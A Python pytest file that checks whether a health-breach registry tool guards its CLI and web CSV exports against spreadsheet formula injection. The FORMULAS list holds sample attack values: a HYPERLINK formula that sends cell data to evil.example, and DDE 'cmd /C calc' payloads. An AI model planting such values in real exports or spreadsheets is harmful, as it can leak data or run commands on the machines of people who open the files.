"""CSV exports never hand a spreadsheet a formula: such cells start with ``'``; numbers stay.

The registry's entity names and descriptions come from a public download
anyone can influence (a "covered entity" named ``=HYPERLINK(...)``), and
other exports carry what staff or patients typed. The CLI's ``--format csv``
and the web's CSV download are checked with such values, read back with
Python's csv module as a spreadsheet would split them.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from phiwatch import registry
from phiwatch._spreadsheet import spreadsheet_cell
from phiwatch.cli._output import OutputFormat, emit
from phiwatch.security import Role
from tests.registry.conftest import row
from tests.web.conftest import build_env

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A2,"details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# As read back: a cell's line breaks are written as LF, so the CR comes back as one.
READ_BACK = ["'" + f.replace("\r", "\n") for f in FORMULAS]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *zip(FORMULAS, READ_BACK, strict=True),
        ("-5", "-5"),  # text that is a number: a spreadsheet reads a number, runs nothing
        ("+1.5", "+1.5"),
        ("-1e3", "-1e3"),
        (-5, -5),  # numbers are left alone
        (2.5, 2.5),
        ("-", "'-"),
        ("- a dash first", "'- a dash first"),
        ("a=b", "a=b"),  # only the first character counts
        ("", ""),
        ("line one\rline two\r\nthree", "line one\nline two\nthree"),
        (None, None),
    ],
)
def test_the_cell_guard(value: object, written: object) -> None:
    assert spreadsheet_cell(value) == written


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_shared_output_helper_guards_every_csv_column() -> None:
    out = io.StringIO()
    rows = [{"name": f, "count": -5, "items": [f, "x"], "note": "-7"} for f in FORMULAS]
    emit(rows, OutputFormat.csv, out=out)
    read = _read(out.getvalue())
    assert [r["name"] for r in read] == READ_BACK
    assert {r["count"] for r in read} == {"-5"} and {r["note"] for r in read} == {"-7"}
    assert read[0]["items"] == READ_BACK[0] + "; x"
    # json keeps the values as they are: it is read by programs, not spreadsheets
    out = io.StringIO()
    emit(rows[:1], OutputFormat.json, out=out)
    assert '"=HYPERLINK' in out.getvalue()


def _export(folder: Path) -> Path:
    """A portal export whose entities are named with formulas."""
    from phiwatch.registry.sources._record import COLUMNS

    path = folder / "breach_report.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, quoting=csv.QUOTE_ALL, lineterminator="\n")
        writer.writerow(COLUMNS)
        writer.writerows(row(name=f, affected=str(600 + n)) for n, f in enumerate(FORMULAS))
    return path


def test_the_cli_csv_of_the_registry(cli, tmp_path: Path) -> None:
    path = _export(tmp_path)
    assert cli("registry", "import", str(path)).exit_code == 0
    listed = cli("registry", "list", "--format", "csv", "--limit", "50")
    assert listed.exit_code == 0, listed.output
    read = _read(listed.stdout)
    assert sorted(r["entity"] for r in read) == sorted(
        "'" + f.strip() for f in FORMULAS
    )  # names are stripped on import
    assert sorted(r["individuals_affected"] for r in read) == [str(600 + n) for n in range(6)]


def test_the_web_csv_download(tmp_path: Path) -> None:
    env = build_env(tmp_path / "data")
    try:
        registry.import_file(env.store, _export(tmp_path))
        answer = env.signed_in(Role.analyst).get("/registry/breaches.csv")
        assert answer.status_code == 200
        read = _read(answer.text)
        assert len(read) == len(FORMULAS)
        assert all(r["entity"].startswith("'") for r in read), [r["entity"] for r in read]
        assert all(r["individuals_affected"].isdigit() for r in read)
    finally:
        env.store.close()
